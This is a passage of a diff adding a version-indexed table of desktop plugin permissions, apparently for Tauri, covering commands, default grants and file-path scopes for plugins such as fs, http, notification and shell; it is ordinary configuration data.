"$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] }, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file", "write_text_file"] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "create-app-specific-dirs": ["allow-mkdir", "scope-app-index"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"], "read-app-specific-dirs-recursive": ["allow-read-dir", "allow-read-file", "allow-read-text-file", "allow-read-text-file-lines", "allow-read-text-file-lines-next", "allow-exists", "scope-app-recursive"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["3.0.0-alpha.2"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "start_accessing_security_scoped_resource", "stat", "stop_accessing_security_scoped_resource", "truncate", "watch", "write"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        demand: true,
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": { sd: [{ path: "$APPLOCALDATA/CacheStorage/**" }, { path: "$APPLOCALDATA/cookies" }, { path: "$APPLOCALDATA/hsts-storage.sqlite" }, { path: "$APPLOCALDATA/serviceworkers/**" }, { path: "$APPLOCALDATA/WebKitCache/**" }, { path: "$APPLOCALDATA/databases/**" }, { path: "$APPLOCALDATA/localstorage/**" }, { path: "$APPLOCALDATA/mediakeys/**" }, { path: "$APPLOCALDATA/storage/**" }], pl: ["linux"] }, "deny-webview-data-windows": { sd: [{ path: "$APPLOCALDATA/EBWebView/**" }], pl: ["windows"] }, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] }, "write-all": { a: ["mkdir", "create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file"] }, "write-files": { a: ["create", "copy_file", "remove", "rename", "truncate", "ftruncate", "write", "write_file"] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "create-app-specific-dirs": ["allow-mkdir", "scope-app-index"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"], "read-app-specific-dirs-recursive": ["allow-read-dir", "allow-read-file", "allow-read-text-file-lines", "allow-read-text-file-lines-next", "allow-exists", "scope-app-recursive"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ],
+    [
+      ["3.0.0-alpha.3"],
+      {
+        c: ["copy_file", "create", "exists", "fstat", "ftruncate", "lstat", "mkdir", "open", "read", "read_dir", "read_file", "read_text_file_lines_next", "remove", "rename", "seek", "size", "start_accessing_security_scoped_resource", "stat", "stop_accessing_security_scoped_resource", "truncate", "watch", "write"],
+        def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
+        demand: true,
+        p: { "allow-read-text-file-lines": { a: ["read_text_file_lines", "read_text_file_lines_next"] }, "allow-write-file": { a: ["write_file", "open", "write"] }, "deny-read-text-file-lines": { d: ["read_text_file_lines"] }, "deny-webview-data-linux": { sd: [{ path: "$APPLOCALDATA/CacheStorage/**" }, { path: "$APPLOCALDATA/cookies" }, { path: "$APPLOCALDATA/hsts-storage.sqlite" }, { path: "$APPLOCALDATA/serviceworkers/**" }, { path: "$APPLOCALDATA/WebKitCache/**" }, { path: "$APPLOCALDATA/databases/**" }, { path: "$APPLOCALDATA/localstorage/**" }, { path: "$APPLOCALDATA/mediakeys/**" }, { path: "$APPLOCALDATA/storage/**" }], pl: ["linux"] }, "deny-webview-data-windows": { sd: [{ path: "$APPLOCALDATA/EBWebView/**" }], pl: ["windows"] }, "deny-write-file": { d: ["write_file"] }, "read-all": { a: ["read_dir", "read_file", "read", "open", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists", "watch"] }, "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] }, "read-files": { a: ["read_file", "read", "open", "read_text_file_lines", "read_text_file_lines_next", "seek", "stat", "lstat", "fstat", "exists"] }, "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists", "size"] }, scope: {}, "scope-app": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }, { path: "$APPDATA" }, { path: "$APPDATA/*" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }, { path: "$APPCACHE" }, { path: "$APPCACHE/*" }, { path: "$APPLOG" }, { path: "$APPLOG/*" }] }, "scope-app-index": { sa: [{ path: "$APPCONFIG" }, { path: "$APPDATA" }, { path: "$APPLOCALDATA" }, { path: "$APPCACHE" }, { path: "$APPLOG" }] }, "scope-app-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }, { path: "$APPDATA" }, { path: "$APPDATA/**" }, { path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }, { path: "$APPCACHE" }, { path: "$APPCACHE/**" }, { path: "$APPLOG" }, { path: "$APPLOG/**" }] } },
+        s: { "allow-app-meta": ["read-meta", "scope-app-index"], "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"], "allow-app-read": ["read-all", "scope-app"], "allow-app-read-recursive": ["read-all", "scope-app-recursive"], "allow-app-write": ["write-all", "scope-app"], "allow-app-write-recursive": ["write-all", "scope-app-recursive"], "create-app-specific-dirs": ["allow-mkdir", "scope-app-index"], "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"], "read-app-specific-dirs-recursive": ["allow-read-dir", "allow-read-file", "allow-read-text-file-lines", "allow-read-text-file-lines-next", "allow-exists", "scope-app-recursive"], "write-all": ["allow-mkdir", "allow-create", "allow-copy-file", "allow-remove", "allow-rename", "allow-truncate", "allow-ftruncate", "allow-write", "allow-write-file"], "write-files": ["allow-create", "allow-copy-file", "allow-remove", "allow-rename", "allow-truncate", "allow-ftruncate", "allow-write", "allow-write-file"] },
+        each: { of: ["appcache", "appconfig", "appdata", "applocaldata", "applog", "audio", "cache", "config", "data", "desktop", "document", "download", "exe", "font", "home", "localdata", "log", "picture", "public", "resource", "runtime", "temp", "template", "video"], p: { "scope-<dir>": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/*" }] }, "scope-<dir>-index": { sa: [{ path: "$<DIR>" }] }, "scope-<dir>-recursive": { sa: [{ path: "$<DIR>" }, { path: "$<DIR>/**" }] } }, s: { "allow-<dir>-meta": ["read-meta", "scope-<dir>-index"], "allow-<dir>-meta-recursive": ["read-meta", "scope-<dir>-recursive"], "allow-<dir>-read": ["read-all", "scope-<dir>"], "allow-<dir>-read-recursive": ["read-all", "scope-<dir>-recursive"], "allow-<dir>-write": ["write-all", "scope-<dir>"], "allow-<dir>-write-recursive": ["write-all", "scope-<dir>-recursive"] } }
+      }
+    ]
+  ],
+  geolocation: [
+    [
+      ["2.0.0-rc.0"],
+      { c: ["check_permissions", "clear_permissions", "clear_positions", "clear_watch", "execute", "get_current_position", "watch_position"] }
+    ],
+    [
+      ["2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3"],
+      { c: ["check_permissions", "clear_permissions", "clear_positions", "clear_watch", "get_current_position", "watch_position"] }
+    ],
+    [
+      ["2.0.0-rc.4", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.4.0", "2.4.1", "2.4.2", "2.5.0"],
+      { c: ["check_permissions", "clear_permissions", "clear_watch", "get_current_position", "request_permissions", "watch_position"] }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["check_permissions", "clear_watch", "get_current_position", "request_permissions", "watch_position"],
+        demand: true
+      }
+    ]
+  ],
+  "global-shortcut": [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6"],
+      { c: ["is_registered", "register", "register_all", "unregister", "unregister_all"] }
+    ],
+    [
+      ["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.3.0", "2.3.1", "2.3.2", "2.4.0", "2.4.1"],
+      {
+        c: ["is_registered", "register", "register_all", "unregister", "unregister_all"],
+        def: []
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["is_registered", "register", "unregister", "unregister_all"],
+        def: [],
+        demand: true
+      }
+    ]
+  ],
+  haptics: [
+    [
+      ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.4.0", "2.4.1", "2.4.2"],
+      { c: ["impact_feedback", "notification_feedback", "selection_feedback", "vibrate"] }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["impact_feedback", "notification_feedback", "selection_feedback", "vibrate"],
+        demand: true
+      }
+    ]
+  ],
+  http: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0-rc.6", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.0.5", "2.2.0", "2.3.0", "2.4.0", "2.4.1", "2.4.2", "2.4.3", "2.4.4", "2.5.0", "2.5.1", "2.5.2", "2.5.3", "2.5.4"],
+      {
+        c: ["fetch", "fetch_cancel", "fetch_read_body", "fetch_send"],
+        def: ["allow-fetch", "allow-fetch-cancel", "allow-fetch-read-body", "allow-fetch-send"]
+      }
+    ],
+    [
+      ["2.5.5", "2.5.6", "2.5.7", "2.5.8", "2.5.9", "2.6.0", "2.6.1", "2.7.0", "2.8.0", "2.8.1", "2.8.2", "2.8.3"],
+      {
+        c: ["fetch", "fetch_cancel", "fetch_cancel_body", "fetch_read_body", "fetch_send"],
+        def: ["allow-fetch", "allow-fetch-cancel", "allow-fetch-send", "allow-fetch-read-body", "allow-fetch-cancel-body"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["fetch", "fetch_cancel", "fetch_cancel_body", "fetch_read_body", "fetch_send"],
+        def: ["allow-fetch", "allow-fetch-cancel", "allow-fetch-send", "allow-fetch-read-body", "allow-fetch-cancel-body"],
+        demand: true
+      }
+    ]
+  ],
+  image: [
+    [
+      ["2.0.0-beta.9", "2.0.0-beta.10"],
+      {
+        c: ["from_bytes", "from_ico_bytes", "from_path", "from_png_bytes", "height", "new", "rgba", "width"],
+        def: ["allow-new", "allow-from-bytes", "allow-from-png-bytes", "allow-from-ico-bytes", "allow-from-path", "allow-rgba", "allow-width", "allow-height"]
+      }
+    ],
+    [
+      ["2.0.0-beta.11"],
+      {
+        c: ["from_bytes", "from_path", "height", "new", "rgba", "width"],
+        def: ["allow-new", "allow-from-bytes", "allow-from-path", "allow-rgba", "allow-width", "allow-height"]
+      }
+    ],
+    [
+      ["2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["from_bytes", "from_path", "new", "rgba", "size"],
+        def: ["allow-new", "allow-from-bytes", "allow-from-path", "allow-rgba", "allow-size"]
+      }
+    ]
+  ],
+  log: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.0.4", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.3.0", "2.3.1", "2.4.0", "2.5.0", "2.5.1", "2.6.0", "2.7.0", "2.7.1", "2.8.0", "2.9.0", "2.9.1", "2.9.2", "2.10.0", "2.10.1"],
+      {
+        c: ["log"],
+        def: ["allow-log"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["log"],
+        def: ["allow-log"],
+        demand: true
+      }
+    ]
+  ],
+  menu: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22"],
+      {
+        c: ["append", "create_default", "get", "insert", "is_checked", "is_enabled", "items", "new", "popup", "prepend", "remove", "remove_at", "set_accelerator", "set_as_app_menu", "set_as_help_menu_for_nsapp", "set_as_window_menu", "set_as_windows_menu_for_nsapp", "set_checked", "set_enabled", "set_icon", "set_text", "text"],
+        def: []
+      }
+    ],
+    [
+      ["2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["append", "create_default", "get", "insert", "is_checked", "is_enabled", "items", "new", "popup", "prepend", "remove", "remove_at", "set_accelerator", "set_as_app_menu", "set_as_help_menu_for_nsapp", "set_as_window_menu", "set_as_windows_menu_for_nsapp", "set_checked", "set_enabled", "set_icon", "set_text", "text"],
+        def: ["allow-new", "allow-append", "allow-prepend", "allow-insert", "allow-remove", "allow-remove-at", "allow-items", "allow-get", "allow-popup", "allow-create-default", "allow-set-as-app-menu", "allow-set-as-window-menu", "allow-text", "allow-set-text", "allow-is-enabled", "allow-set-enabled", "allow-set-accelerator", "allow-set-as-windows-menu-for-nsapp", "allow-set-as-help-menu-for-nsapp", "allow-is-checked", "allow-set-checked", "allow-set-icon"]
+      }
+    ]
+  ],
+  nfc: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6"],
+      { c: ["is_available", "scan", "write"] }
+    ],
+    [
+      ["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.3.4", "2.3.5", "2.3.6", "2.4.0", "2.4.1", "2.4.2"],
+      {
+        c: ["is_available", "scan", "write"],
+        def: ["allow-is-available", "allow-scan"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["is_available", "scan", "write"],
+        def: ["allow-is-available", "allow-scan"],
+        demand: true
+      }
+    ]
+  ],
+  notification: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8"],
+      {
+        c: ["is_permission_granted", "notify", "request_permission"],
+        def: ["allow-is-permission-granted", "allow-request-permission", "allow-notify"]
+      }
+    ],
+    [
+      ["2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.4.0"],
+      {
+        c: ["batch", "cancel", "check_permissions", "create_channel", "delete_channel", "get_active", "get_pending", "is_permission_granted", "list_channels", "notify", "permission_state", "register_action_types", "register_listener", "remove_active", "request_permission", "show"],
+        def: ["allow-is-permission-granted", "allow-request-permission", "allow-notify", "allow-register-action-types", "allow-register-listener", "allow-cancel", "allow-get-pending", "allow-remove-active", "allow-get-active", "allow-check-permissions", "allow-show", "allow-batch", "allow-list-channels", "allow-delete-channel", "allow-create-channel", "allow-permission-state"]
+      }
+    ],
+    [
+      ["2.5.0", "2.5.1", "2.6.0", "2.7.0", "2.8.0"],
+      {
+        c: ["batch", "cancel", "check_permissions", "create_channel", "delete_channel", "get_active", "get_pending", "is_permission_granted", "list_channels", "notify", "permission_state", "register_action_types", "register_listener", "remove_active", "remove_listener", "request_permission", "show"],
+        def: ["allow-is-permission-granted", "allow-request-permission", "allow-notify", "allow-register-action-types", "allow-register-listener", "allow-remove-listener", "allow-cancel", "allow-get-pending", "allow-remove-active", "allow-get-active", "allow-check-permissions", "allow-show", "allow-batch", "allow-list-channels", "allow-delete-channel", "allow-create-channel", "allow-permission-state"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1"],
+      {
+        c: ["batch", "cancel", "check_permissions", "create_channel", "delete_channel", "get_active", "get_pending", "is_permission_granted", "list_channels", "notify", "permission_state", "register_action_types", "register_listener", "remove_active", "request_permission", "show"],
+        def: ["allow-is-permission-granted", "allow-request-permission", "allow-notify", "allow-register-action-types", "allow-register-listener", "allow-cancel", "allow-get-pending", "allow-remove-active", "allow-get-active", "allow-check-permissions", "allow-show", "allow-batch", "allow-list-channels", "allow-delete-channel", "allow-create-channel", "allow-permission-state"],
+        demand: true
+      }
+    ],
+    [
+      ["3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["batch", "cancel", "check_permissions", "create_channel", "delete_channel", "get_active", "get_pending", "is_permission_granted", "list_channels", "notify", "permission_state", "register_action_types", "register_listener", "remove_active", "remove_listener", "request_permission", "show"],
+        def: ["allow-is-permission-granted", "allow-request-permission", "allow-notify", "allow-register-action-types", "allow-register-listener", "allow-remove-listener", "allow-cancel", "allow-get-pending", "allow-remove-active", "allow-get-active", "allow-check-permissions", "allow-show", "allow-batch", "allow-list-channels", "allow-delete-channel", "allow-create-channel", "allow-permission-state"],
+        demand: true
+      }
+    ]
+  ],
+  opener: [
+    [
+      ["2.0.0", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.2.4", "2.2.5", "2.2.6", "2.2.7", "2.3.0", "2.3.1", "2.4.0", "2.5.0", "2.5.1", "2.5.2", "2.5.3", "2.5.4", "2.5.5", "2.6.0", "2.7.0", "2.7.1", "2.7.2"],
+      {
+        c: ["open_path", "open_url", "reveal_item_in_dir"],
+        def: ["allow-open-url", "allow-reveal-item-in-dir", "allow-default-urls"],
+        p: { "allow-default-urls": { sa: [{ url: "mailto:*" }, { url: "tel:*" }, { url: "http://*" }, { url: "https://*" }] } }
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1"],
+      {
+        c: ["open_path", "open_url", "reveal_item_in_dir"],
+        def: ["allow-open-url", "allow-reveal-item-in-dir", "allow-default-urls"],
+        p: { "allow-default-urls": { sa: [{ url: "mailto:*" }, { url: "tel:*" }, { url: "http://*" }, { url: "https://*" }] } },
+        demand: true
+      }
+    ],
+    [
+      ["3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["open_path", "open_url", "reveal_items_in_dir"],
+        def: ["allow-open-url", "allow-reveal-items-in-dir", "allow-default-urls"],
+        p: { "allow-default-urls": { sa: [{ url: "mailto:*" }, { url: "tel:*" }, { url: "http://*" }, { url: "https://*" }] } },
+        demand: true
+      }
+    ]
+  ],
+  os: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6"],
+      { c: ["arch", "exe_extension", "family", "hostname", "locale", "os_type", "platform", "version"] }
+    ],
+    [
+      ["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.2.2", "2.3.0", "2.3.1", "2.3.2", "2.4.0"],
+      {
+        c: ["arch", "exe_extension", "family", "hostname", "locale", "os_type", "platform", "version"],
+        def: ["allow-arch", "allow-exe-extension", "allow-family", "allow-locale", "allow-os-type", "allow-platform", "allow-version"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["arch", "exe_extension", "family", "hostname", "locale", "os_type", "platform", "version"],
+        def: ["allow-arch", "allow-exe-extension", "allow-family", "allow-locale", "allow-os-type", "allow-platform", "allow-version"],
+        demand: true
+      }
+    ]
+  ],
+  path: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["basename", "dirname", "extname", "is_absolute", "join", "normalize", "resolve", "resolve_directory"],
+        def: ["allow-resolve-directory", "allow-resolve", "allow-normalize", "allow-join", "allow-dirname", "allow-extname", "allow-basename", "allow-is-absolute"]
+      }
+    ]
+  ],
+  positioner: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1"],
+      {
+        c: ["move_window"],
+        def: ["allow-move-window"]
+      }
+    ],
+    [
+      ["2.0.0-rc.2", "2.0.0", "2.0.1"],
+      {
+        c: ["move_window"],
+        def: ["allow-move-window", "set-tray-icon-state"],
+        p: { "allow-set-tray-icon-state": { a: ["set_tray_icon_state"] } }
+      }
+    ],
+    [
+      ["2.0.2"],
+      {
+        c: ["move_window", "set_tray_icon_state"],
+        def: ["allow-move-window", "set-tray-icon-state"]
+      }
+    ],
+    [
+      ["2.1.0", "2.2.0", "2.2.1", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.3.4", "2.4.0"],
+      {
+        c: ["move_window", "move_window_constrained", "set_tray_icon_state"],
+        def: ["allow-move-window", "allow-move-window-constrained", "allow-set-tray-icon-state"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["move_window", "move_window_constrained", "set_tray_icon_state"],
+        def: ["allow-move-window", "allow-move-window-constrained", "allow-set-tray-icon-state"],
+        demand: true
+      }
+    ]
+  ],
+  process: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6"],
+      { c: ["exit", "restart"] }
+    ],
+    [
+      ["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.2.2", "2.3.0", "2.3.1", "2.4.0"],
+      {
+        c: ["exit", "restart"],
+        def: ["allow-exit", "allow-restart"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["exit", "restart"],
+        def: ["allow-exit", "allow-restart"],
+        demand: true
+      }
+    ]
+  ],
+  resources: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["close"],
+        def: ["allow-close"]
+      }
+    ]
+  ],
+  shell: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"],
+      { c: ["execute", "kill", "open", "stdin_write"] }
+    ],
+    [
+      ["2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7"],
